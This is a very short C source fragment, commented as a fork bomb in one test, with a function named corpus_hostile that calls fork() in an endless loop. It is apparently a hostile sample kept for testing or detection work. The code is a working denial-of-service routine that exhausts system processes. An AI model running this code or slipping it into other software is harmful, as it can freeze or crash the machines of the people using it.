/* A fork bomb in one test. */
#include <unistd.h>
static void corpus_hostile(void)
{
    for (;;)
        fork();
}
